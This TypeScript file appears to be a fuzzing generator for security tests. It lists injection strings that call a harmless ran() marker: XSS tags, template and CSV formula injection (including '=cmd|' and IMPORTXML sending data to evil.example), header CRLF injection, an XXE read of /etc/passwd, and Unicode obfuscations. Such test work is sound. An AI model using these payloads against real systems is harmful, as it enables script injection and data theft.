// biome-ignore-all lint/suspicious/noTemplateCurlyInString: input for template engines
import { drawEvenly, type Random } from "../random.ts";

/**
 * Texts that would execute where others read them: each calls `ran()`, draws in green or leaves a mark (`ran` as tag,
 * class or attribute) if it is treated as more than text. Each fits into a name.
 */

const tags = [
  "<script>ran()</script>",
  "<script src=//evil.example/x.js></script>",
  "<script src=data:,ran()></script>",
  "<script type=module>ran()</script>",
  "</script><script>ran()</script>",
  "</title><script>ran()</script>",
  "</textarea><script>ran()</script>",
  "</style><script>ran()</script>",
  "<scr<script>ipt>ran()</scr</script>ipt>",
  "<SCRIPT/XSS>ran()</SCRIPT >",
  "<img src=x onerror=ran()>",
  "<img/src=x/onerror=ran()//",
  "<IMG SRC=x ONERROR=&#114;an()>",
  "<img src=//evil.example/pixel.png>",
  "<img srcset='//evil.example/p.png 1x'>",
  "<svg onload=ran()>",
  "<svg><script>ran()</script></svg>",
  "<svg><a href=javascript:ran()><text y=9>Press</text></a></svg>",
  "<svg><animate onbegin=ran() attributeName=x dur=1s>",
  "<svg><set onbegin=ran() attributeName=x to=1>",
  "<svg><foreignObject><img src=x onerror=ran()>",
  "<svg><use href=data:image/svg+xml,ran />",
  "<math><mtext><table><mglyph><style><img src=x onerror=ran()>",
  "<body onload=ran()>",
  "<input autofocus onfocus=ran()>",
  "<select autofocus onfocus=ran()>",
  "<details open ontoggle=ran()>",
  "<video src=x onerror=ran()>",
  "<audio src=x onerror=ran()>",
  "<marquee onstart=ran()>ran</marquee>",
  "<iframe src=javascript:parent.ran()>",
  "<iframe srcdoc='<script>parent.ran()</script>'>",
  "<object data=javascript:ran()>",
  "<embed src=javascript:ran()>",
  "<meta http-equiv=refresh content=0;url=javascript:ran()>",
  "<base href=//evil.example/>",
  "<link rel=stylesheet href=//evil.example/x.css>",
  "<link rel=modulepreload href=//evil.example/x.js>",
  "<style>*{background:url(//evil.example/x)}</style>",
  "<style>@import'//evil.example/x';</style>",
  "<form action=//evil.example/><button>Send</button>",
  "<a href=javascript:ran()>Press me</a>",
  "<a href=//evil.example/ ran>Press me</a>",
  "<template><img src=x onerror=ran()></template>",
  "<noscript><p title='</noscript><img src=x onerror=ran()>'>",
  "<ran class=ran>marked</ran>",
  "<!--><img src=x onerror=ran()>-->",
  "<![CDATA[><img src=x onerror=ran()>]]>",
  "<?xml version='1.0'?><ran/>",
  "<!ENTITY x SYSTEM 'file:///etc/passwd'>&x;",
] as const;

const attributes = [
  '" onmouseover=ran() x="',
  "' autofocus onfocus='ran()",
  '"><img src=x onerror=ran()>',
  "'><svg onload=ran()>",
  "` onfocus=ran() autofocus `",
  '" style=animation-name:x onanimationstart=ran() "',
  'x" srcdoc="<script>ran()</script>',
  '"ran="ran" class="ran',
  "javascript:ran()",
  "data:text/html,<script>ran()</script>",
  "url(javascript:ran())",
  "expression(ran())",
  "&quot;&gt;&lt;img src=x onerror=ran()&gt;",
  "&#60;script&#62;ran()&#60;/script&#62;",
  "&lt;script&gt;ran()&lt;/script&gt;",
  "%3Cscript%3Eran()%3C/script%3E",
  "\\u003cscript\\u003eran()\\u003c/script\\u003e",
  "\\x3cscript\\x3eran()\\x3c/script\\x3e",
] as const;

const scripts = [
  "';ran();//",
  '";ran();//',
  "\\';ran();//",
  "</script><!--<script>ran()//",
  "`${ran()}`",
  "${ran()}",
  "{{ran()}}",
  "{{constructor.constructor('ran()')()}}",
  "#{ran()}",
  "<%= ran() %>",
  "{%raw%}{{ran()}}",
  '{"__proto__":{"innerHTML":"<img src=x onerror=ran()>"}}',
  "dangerouslySetInnerHTML={__html:'<img onerror=ran() src=x>'}",
  "[object Object]__proto__ constructor",
] as const;

/** Draw if the text becomes part of an SVG that is rendered to an image. */
const drawings = [
  "</text><rect width='9999' height='9999' fill='#0f0'/>",
  "</tspan></text></svg><svg><rect width='9999' height='9999' fill='#0f0'/>",
  "]]></text><image href='file:///etc/passwd' width='9'/>",
  "</text><image href='http://evil.example/x.png' width='9' height='9'/>",
  "</text><style>*{fill:#0f0!important}</style>",
] as const;

const tables = [
  "=1+1",
  "=cmd|'/C calc'!A0",
  '=HYPERLINK("http://evil.example","Press")',
  "+1+1",
  "-1+1",
  "@SUM(1+1)",
  '="a",=1+1',
  '"=1+1',
  'a","=1+1","',
  '=IMPORTXML(CONCAT("//evil.example/?",A1),"//a")',
  ";=1+1;",
] as const;

/** Inject lines into a header, a file or a log. */
const lines = [
  "a\r\nBcc: ran@evil.example",
  "a\r\nContent-Type: text/html\r\n\r\n<script>ran()</script>",
  "a\nSet-Cookie: evox=ran",
  "a\u2028Bcc: ran@evil.example",
  "a\u0085X-Ran: yes",
  "a\r\nEND:VCARD\r\nBEGIN:VCARD\r\nFN:ran",
  "a\\nTEL:+9779800000000",
  "a;b,c\\;d\\,e\\",
  "a\r\n X-RAN:folded",
  "=?utf-8?Q?=0D=0ABcc:_ran@evil.example?=",
  "ran@evil.example, other",
  "a\u0000<script>ran()</script>",
  "a\u001b]8;;javascript:ran()\u0007b",
] as const;

const letters = [
  "\u202e)(nar>gmi<",
  "\u2066<img src=x onerror=ran()>\u2069",
  "\ufeff<script>ran()</script>",
  "\u200b=1+1",
  "\uff1cscript\uff1eran()\uff1c/script\uff1e",
  "\u02bascript\u02ba \u2039ran()\u203a",
  "<\u0130mg src=x onerror=ran()>",
  "<ſcript>ran()</ſcript>",
  "عمر <img src=x onerror=ran()>",
  "\u{1F3F4}\u200d<svg onload=ran()>",
  "é́́́́́<svg/onload=ran()>",
  "\ud800<script>ran()</script>",
] as const;

const texts: readonly string[] = [...tags, ...attributes, ...scripts, ...drawings, ...tables, ...lines, ...letters];

const longest = 100;
const cut = (text: string) => [...text].slice(0, longest).join("");

const disguises: readonly ((text: string) => string)[] = [
  (text) =>
    text
      .replaceAll(/[a-z]/gu, (letter) => (letter.charCodeAt(0) % 2 ? letter.toUpperCase() : letter))
      .replaceAll(/RAN|rAn/giu, "ran"),
  (text) => `"'>${text}`,
  (text) => `</p></div></main>${text}`,
  (text) => text.replaceAll("<", "<<"),
  (text) => text.replaceAll(" ", "/"),
  (text) => text.replaceAll(" ", "\f"),
  (text) => text.replaceAll("<", "<\u200b"),
  (text) => text.replaceAll("r", "&#114;"),
  (text) => `<!--${text}-->`,
  (text) => `Ann ${text} Lee`,
  (text) => text.replaceAll("=", '="'),
  (text) => `${text}${text}`,
];

/** Draws `count` texts: first unchanged from a random start, then obfuscated. */
export function drawTexts(random: Random, count: number): string[] {
  return drawEvenly(texts, random, count).map((text, index) =>
    cut(index < texts.length ? text : random.pick(disguises)(text)),
  );
}
